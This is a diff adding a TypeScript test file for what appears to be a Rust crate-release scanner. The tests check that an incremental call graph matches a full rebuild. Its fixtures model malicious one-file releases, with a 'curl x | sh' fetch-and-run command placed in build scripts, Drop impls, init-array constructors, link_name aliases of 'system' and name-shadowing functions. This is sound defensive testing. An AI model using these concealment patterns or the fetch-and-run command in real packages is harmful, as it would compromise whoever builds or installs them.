@@ -1,0 +1,160 @@
+import { spawnSync } from 'node:child_process';
+import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { rulesFor } from '../src/index.js';
+import { buildRelease, diffReleases } from '../src/diff/index.js';
+import { ParseCache, DEFAULT_PARSE_OPTIONS } from '../src/parse/parser.js';
+import { CallGraph } from '../src/analysis/graph.js';
+import { DependencyCaps } from '../src/analysis/deps.js';
+import { shippedIndex } from '../src/analysis/summary-index.js';
+import { treeFromFiles } from '../src/source/index.js';
+import { tempDir } from './helpers/tmp.js';
+
+// Review of the derived graph (src/analysis/graph-reuse.ts) and the diff's kept-file shortcut: release
+// pairs that change one file the way a payload would (a new `use`, glob, re-export, macro, extern
+// block, method of a common name, duplicate key, manifest change...) must give a derived graph equal,
+// map order included, to a full build, and the same report as the build before the change.
+
+const rules = rulesFor();
+const deps = new DependencyCaps(shippedIndex(rules.dir), rules.catalogue);
+const ROOT = path.join(import.meta.dirname, '..');
+const CLI = path.join(ROOT, 'bin', 'cratefence.js');
+// The build from before the derived graph (a451600), when this machine has one: reports must not change.
+const BEFORE = process.env.CRATEFENCE_BEFORE_BIN ?? '/work/wt/before/bin/cratefence.js';
+const haveBefore = existsSync(BEFORE) && existsSync(path.join(ROOT, 'dist', 'index.js'));
+if (!haveBefore) console.log(`graph-reuse-review: no build of the earlier code at ${BEFORE} (set CRATEFENCE_BEFORE_BIN): reports are not compared, graphs still are`);
+
+type Files = Record<string, string>;
+
+function dump(g: CallGraph): string {
+  return JSON.stringify({ edges: [...g.edges], caps: [...g.caps], unknown: [...g.unknown], callers: [...g.callers], selfCalls: [...g.selfCalls], entries: [...g.entries], declared: [...g.declared], unresolved: g.unresolved });
+}
+
+function build(oldFiles: Files, newFiles: Files) {
+  const oldTree = treeFromFiles(oldFiles, 'old');
+  const newTree = treeFromFiles(newFiles, 'new');
+  const cache = new ParseCache(DEFAULT_PARSE_OPTIONS);
+  const oldV = buildRelease(oldTree, cache, undefined, undefined, newTree);
+  const newV = buildRelease(newTree, cache, undefined, oldTree);
+  const delta = diffReleases(oldV, newV);
+  const oldGraph = new CallGraph(delta.old, rules.catalogue, true, undefined, deps);
+  const derived = new CallGraph(delta.new, rules.catalogue, true, oldGraph, deps);
+  const full = new CallGraph(delta.new, rules.catalogue, true, undefined, deps);
+  return { derived, full, delta };
+}
+
+function report(bin: string, oldDir: string, newDir: string): string {
+  const r = spawnSync(process.execPath, [bin, 'diff', oldDir, newDir, '--format', 'json'], { encoding: 'utf8' });
+  if (!r.stdout) throw new Error(`${bin}: exit ${r.status}: ${r.stderr}`);
+  const j = JSON.parse(r.stdout) as Record<string, unknown>;
+  delete j.timings;
+  return JSON.stringify(j, null, 1);
+}
+
+function writeTree(dir: string, files: Files): void {
+  for (const [p, c] of Object.entries(files)) {
+    mkdirSync(path.dirname(path.join(dir, p)), { recursive: true });
+    writeFileSync(path.join(dir, p), c);
+  }
+}
+
+const TOML = '[package]\nname = "g"\nversion = "0.1.0"\nedition = "2021"\n\n[dependencies]\nureq = "2"\n';
+const TOML_NEW = TOML.replace('0.1.0', '0.1.1');
+const LIB = 'pub mod helpers;\npub mod user;\npub mod extra;\n';
+const HELPERS = `pub fn spawn_it() { std::process::Command::new("ls").status().ok(); }
+pub fn quiet() {}
+pub fn register(_f: fn()) {}
+`;
+// The unchanged file: its sites name what the changed files below add, remove or redefine.
+const USER = `use crate::helpers::*;
+use crate::extra;
+pub fn run() { spawn_it(); quiet(); crate::helpers::quiet(); }
+pub fn values() { let handler = 1; let _ = handler; register(on_event); }
+pub fn cmd() { let _ = std::process::Command::new("ls").spawn(); }
+pub fn via() { let _ = extra::Job::new("x"); let _ = crate::extra::Command::new("sh"); let _ = crate::extra::make(); }
+pub fn mac() { helper_mac!(process, Command); }
+pub fn w(x: &crate::extra::Widget) { x.launch(); x.fetch(); }
+pub fn net() { let _ = ureq::get("http://x").call(); }
+pub unsafe fn ff(p: *const u8) { system(p); }
+pub fn rec(n: u32) -> u32 { if n == 0 { 0 } else { rec(n - 1) } }
+`;
+const EXTRA = 'pub fn e() { let _ = 2; }\n';
+const base: Files = { 'Cargo.toml': TOML, 'src/lib.rs': LIB, 'src/helpers.rs': HELPERS, 'src/user.rs': USER, 'src/extra.rs': EXTRA };
+
+interface Case {
+  name: string;
+  old?: Files;
+  new: Files;
+  /** An extra check on the full build or the diff (what the case is about). */
+  check?: (r: ReturnType<typeof build>) => void;
+}
+
+const spawnBody = 'std::process::Command::new("sh").arg("-c").arg("curl x | sh").spawn().ok();';
+const cases: Case[] = [
+  { name: 'a changed file adds a glob import of a local module', new: { 'src/extra.rs': `use crate::helpers::*;\npub fn e() { spawn_it(); }\n` } },
+  { name: 'a changed file adds `pub use std::process::*` that an unchanged file reaches through', new: { 'src/extra.rs': `pub use std::process::*;\n${EXTRA}` }, check: ({ full }) => expect(JSON.stringify(full.caps.get('crate::user::via') ?? [])).toMatch(/process/) },
+  { name: 'a changed file re-exports another type under the same alias', old: { 'src/extra.rs': 'pub use std::string::String as Job;\n' }, new: { 'src/extra.rs': 'pub use std::process::Command as Job;\n' } },
+  { name: 'a changed file adds a private `use` only it reads', old: { 'src/extra.rs': `use std::string::String as Cmd;\npub fn e() { let _ = Cmd::new(); }\n` }, new: { 'src/extra.rs': `use std::process::Command as Cmd;\npub fn e() { let _ = Cmd::new("x"); }\n` } },
+  { name: 'a changed file adds a macro_rules! an unchanged file calls', new: { 'src/extra.rs': `#[macro_export]\nmacro_rules! helper_mac { ($a:ident, $b:ident) => { let _ = std::$a::$b::new("x"); } }\n${EXTRA}` } },
+  { name: 'a changed file rewrites the body of a macro an unchanged file calls', old: { 'src/extra.rs': `macro_rules! helper_mac { ($a:ident, $b:ident) => { let _ = 1; } }\n` }, new: { 'src/extra.rs': `macro_rules! helper_mac { ($a:ident, $b:ident) => { let _ = std::$a::$b::new("x"); } }\n` } },
+  { name: 'a changed file adds an inline module', new: { 'src/extra.rs': `pub mod ureq { pub fn get(_u: &str) {} }\n${EXTRA}` } },
+  { name: 'a changed file adds a `mod` declaration and its file', new: { 'src/extra.rs': `pub mod deep;\n${EXTRA}`, 'src/extra/deep.rs': `pub fn quiet() { ${spawnBody} }\n` } },
+  { name: 'a changed file declares `system` in an extern block', new: { 'src/extra.rs': `extern "C" { pub fn system(c: *const u8) -> i32; }\n${EXTRA}` }, check: ({ full }) => expect(full.caps.get('crate::user::ff')?.some((u) => u.foreign !== undefined)).toBe(true) },
+  { name: 'a changed file gives a foreign function an unchanged file names the link_name system', new: { 'src/extra.rs': `extern "C" { #[link_name = "system"] pub fn on_event(); }\n${EXTRA}` } },
+  { name: "a changed file changes a foreign declaration's link_name", old: { 'src/extra.rs': `extern "C" { #[link_name = "getpid"] pub fn on_event(); }\n` }, new: { 'src/extra.rs': `extern "C" { #[link_name = "system"] pub fn on_event(); }\n` } },
+  { name: 'a changed file moves a foreign declaration to another line', old: { 'src/extra.rs': `extern "C" { pub fn system(c: *const u8) -> i32; }\n` }, new: { 'src/extra.rs': `\n\nextern "C" { pub fn system(c: *const u8) -> i32; }\n` } },
+  { name: 'an unchanged file has global_asm! labels, a changed file declares one', old: { 'src/asm.rs': 'core::arch::global_asm!(".globl go_sys", "go_sys:", "mov $59, %eax", "syscall", "ret");\n', 'src/lib.rs': `${LIB}pub mod asm;\n` }, new: { 'src/asm.rs': 'core::arch::global_asm!(".globl go_sys", "go_sys:", "mov $59, %eax", "syscall", "ret");\n', 'src/lib.rs': `${LIB}pub mod asm;\n`, 'src/extra.rs': `extern "C" { pub fn go_sys(); }\npub fn e() { unsafe { go_sys() } }\n` } },
+  { name: 'a changed file adds a Drop impl', new: { 'src/extra.rs': `pub struct W;\nimpl Drop for W { fn drop(&mut self) { ${spawnBody} } }\n` }, check: ({ full }) => expect([...full.entries.values()]).toContain('implicit') },
+  { name: 'a changed file adds a method an unchanged file calls by name', new: { 'src/extra.rs': `pub struct Widget;\nimpl Widget { pub fn launch(&self) { ${spawnBody} } }\n` }, check: ({ full }) => expect(full.edges.get('crate::user::w')?.map((e) => e.to)).toContain('crate::extra::Widget::launch') },
+  { name: "a changed file adds a method named like a dependency's (`call`)", new: { 'src/extra.rs': `pub struct R;\nimpl R { pub fn call(&self) {} }\n` } },
+  { name: 'a changed file adds a method named like a std one (`spawn`)', new: { 'src/extra.rs': `pub struct R;\nimpl R { pub fn spawn(&self) { ${spawnBody} } }\n` } },
+  { name: 'a changed file adds a function an unchanged file calls through a glob', new: { 'src/extra.rs': `pub fn quiet() { ${spawnBody} }\n` } },
+  { name: 'a changed file adds a function named like a local variable', new: { 'src/extra.rs': `pub fn handler() { ${spawnBody} }\n` } },
+  { name: 'a changed file adds a function an unchanged file names as a value', new: { 'src/extra.rs': `pub fn on_event() { ${spawnBody} }\n` } },
+  { name: 'a const becomes a function of the same name', old: { 'src/extra.rs': 'pub const on_event: u8 = 0;\n' }, new: { 'src/extra.rs': `pub fn on_event() { ${spawnBody} }\n` } },
+  { name: 'a function becomes a static of the same name', old: { 'src/extra.rs': 'pub fn make() {}\n' }, new: { 'src/extra.rs': 'pub static make: u8 = 1;\n' } },
+  { name: 'a free function moves into an impl', old: { 'src/extra.rs': 'pub fn make() {}\n' }, new: { 'src/extra.rs': `pub struct Z;\nimpl Z { pub fn make() { ${spawnBody} } }\n` } },
+  { name: 'a changed file reorders its functions', old: { 'src/extra.rs': 'pub fn a() {}\npub fn quiet() {}\npub fn make() {}\n' }, new: { 'src/extra.rs': 'pub fn make() {}\npub fn quiet() {}\npub fn a() {}\n' } },
+  { name: 'two impl blocks define the same method', old: { 'src/extra.rs': 'pub struct Widget;\nimpl Widget { pub fn launch(&self) {} }\n' }, new: { 'src/extra.rs': `pub struct Widget;\nimpl Widget { pub fn launch(&self) {} }\nimpl Widget { pub fn launch(&self) { ${spawnBody} } }\n` } },
+  { name: 'a cfg-gated duplicate of a function is added', old: { 'src/extra.rs': '#[cfg(unix)]\npub fn make() {}\n' }, new: { 'src/extra.rs': `#[cfg(unix)]\npub fn make() {}\n#[cfg(windows)]\npub fn make() { ${spawnBody} }\n` } },
+  { name: 'cfg-gated duplicates swap places', old: { 'src/extra.rs': `#[cfg(unix)]\npub fn make() {}\n#[cfg(windows)]\npub fn make() { ${spawnBody} }\n` }, new: { 'src/extra.rs': `#[cfg(windows)]\npub fn make() { ${spawnBody} }\n#[cfg(unix)]\npub fn make() {}\n` } },
+  { name: 'a trait gets a default method named like one an unchanged file calls', new: { 'src/extra.rs': `pub trait T { fn fetch(&self) { ${spawnBody} } }\n` } },
+  { name: 'a ctor static is added', new: { 'src/extra.rs': `${EXTRA}#[used]\n#[link_section = ".init_array"]\npub static INIT: fn() = e;\n` }, check: ({ full }) => expect([...full.entries.values()]).toContain('ctor') },
+  { name: 'a changed file adds a function that shifts an included file\'s key to #2', old: { 'src/extra.rs': `include!("more.rs");\n${EXTRA}`, 'src/more.rs': 'pub fn make() {}\n' }, new: { 'src/extra.rs': `include!("more.rs");\npub fn make() { ${spawnBody} }\n`, 'src/more.rs': 'pub fn make() {}\n' } },
+  { name: 'an included non-.rs file changes, its includer does not', old: { 'src/extra.rs': `include!("payload.dat");\n`, 'src/payload.dat': 'pub fn make() {}\n' }, new: { 'src/extra.rs': `include!("payload.dat");\n`, 'src/payload.dat': `pub fn make() { ${spawnBody} }\n` } },
+  { name: 'an unchanged file is included from a new place (module changes)', old: { 'src/more.rs': 'pub fn quiet() {}\n' }, new: { 'src/extra.rs': `include!("more.rs");\n${EXTRA}`, 'src/more.rs': 'pub fn quiet() {}\n' } },
+  { name: 'an unchanged file moves module through #[path]', new: { 'src/lib.rs': 'pub mod helpers;\npub mod user;\n#[path = "helpers.rs"]\npub mod extra;\n' } },
+  { name: 'a module becomes cfg(test)', new: { 'src/lib.rs': 'pub mod helpers;\npub mod user;\n#[cfg(test)]\npub mod extra;\n' }, old: { 'src/extra.rs': 'pub fn make() { let _ = 1; }\n' } },
+  { name: 'the manifest adds a dependency, no .rs change', new: { 'Cargo.toml': `${TOML_NEW}duct = "0.13"\n` } },
+  { name: 'the manifest renames a dependency with package =', old: { 'src/extra.rs': 'pub fn make() { let _ = http::get("x"); }\n' }, new: { 'Cargo.toml': TOML_NEW.replace('ureq = "2"', 'http = { package = "ureq", version = "2" }'), 'src/extra.rs': 'pub fn make() { let _ = http::get("x"); }\n' } },
+  { name: 'the manifest changes the edition and features only', new: { 'Cargo.toml': `${TOML_NEW.replace('2021', '2018')}\n[features]\ndefault = ["x"]\nx = []\n` } },
+  { name: 'the manifest names a build script that was a plain file', old: { 'gen.rs': `fn main() { ${spawnBody} }\n` }, new: { 'Cargo.toml': TOML_NEW.replace('edition', 'build = "gen.rs"\nedition'), 'gen.rs': `fn main() { ${spawnBody} }\n` } },
+  { name: 'the manifest makes the crate a proc-macro', new: { 'Cargo.toml': `${TOML_NEW}\n[lib]\nproc-macro = true\n` } },
+  { name: 'the manifest moves the library root', old: { 'src/root.rs': LIB }, new: { 'Cargo.toml': `${TOML_NEW}\n[lib]\npath = "src/root.rs"\n`, 'src/root.rs': LIB } },
+  { name: 'a changed build.rs runs a command', old: { 'build.rs': 'fn main() {}\n' }, new: { 'build.rs': `fn main() { ${spawnBody} }\n` } },
+  { name: 'build.rs writes Rust the crate includes from OUT_DIR', old: { 'build.rs': 'fn main() {}\n' }, new: { 'build.rs': `fn main() { let out = std::env::var("OUT_DIR").unwrap(); std::fs::write(format!("{}/gen.rs", out), "pub fn quiet() { std::process::Command::new(\\"sh\\").spawn().ok(); }").unwrap(); }\n`, 'src/extra.rs': `include!(concat!(env!("OUT_DIR"), "/gen.rs"));\n${EXTRA}` } },
+  { name: 'a changed file defines a function named like the recursive one', new: { 'src/extra.rs': `pub fn rec(_n: u32) -> u32 { ${spawnBody} 0 }\n` } },
+  { name: 'diff: an item is removed from a file whose other keys stay', old: { 'src/extra.rs': `${EXTRA}pub fn make() {}\n` }, new: { 'src/extra.rs': EXTRA }, check: ({ delta }) => expect(delta.items.filter((i) => i.status === 'removed').map((i) => i.key)).toContain('crate::extra::make') },
+  { name: 'diff: an item moves to an unchanged-keys file', old: { 'src/extra.rs': `${EXTRA}pub fn make() { ${spawnBody} }\n`, 'src/helpers.rs': HELPERS }, new: { 'src/extra.rs': EXTRA, 'src/helpers.rs': `${HELPERS}pub fn make() { ${spawnBody} }\n` } },
+  { name: 'diff: same keys in another order', old: { 'src/extra.rs': 'pub fn a() {}\npub fn make() {}\n' }, new: { 'src/extra.rs': `pub fn make() { ${spawnBody} }\npub fn a() {}\n` } },
+  { name: 'diff: same keys, bodies changed', old: { 'src/extra.rs': 'pub fn make() {}\n' }, new: { 'src/extra.rs': `pub fn make() { ${spawnBody} }\n` } },
+];
+
+describe('derived graph review: one-file releases an attacker might publish', () => {
+  for (const c of cases) {
+    it(c.name, () => {
+      const oldFiles = { ...base, ...c.old };
+      const newFiles = { ...base, 'Cargo.toml': TOML_NEW, ...c.old, ...c.new };
+      const r = build(oldFiles, newFiles);
+      expect(dump(r.derived)).toBe(dump(r.full));
+      c.check?.(r);
+      if (process.env.REVIEW_LOG) console.log(`${c.name}: ${r.derived.shared ? "shared" : `${r.derived.copiedFiles} copied`}`);
+      if (!haveBefore) return;
+      const dir = tempDir('cf-review-');
+      writeTree(path.join(dir, 'old'), oldFiles);
+      writeTree(path.join(dir, 'new'), newFiles);
+      expect(report(CLI, path.join(dir, 'old'), path.join(dir, 'new'))).toBe(report(BEFORE, path.join(dir, 'old'), path.join(dir, 'new')));
+    }, 30_000);
+  }
+});
